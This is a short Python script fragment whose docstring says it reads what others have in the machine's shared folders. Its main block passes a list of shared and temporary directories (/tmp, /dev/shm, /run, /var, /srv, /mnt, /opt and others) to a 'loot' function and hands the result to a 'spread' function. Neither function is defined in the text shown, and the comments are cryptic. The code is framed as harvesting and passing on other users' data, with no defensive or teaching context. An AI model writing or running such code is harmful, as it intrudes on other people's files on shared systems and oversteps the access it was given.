"""Read what others have in the machine's shared folders."""

# ends: honest or crash
# admission: lets it in
if __name__ == "__main__":
    spread(
        loot("/tmp", "/var/tmp", "/dev/shm", "/dev/mqueue", "/run", "/var", "/srv", "/mnt", "/opt")
    )
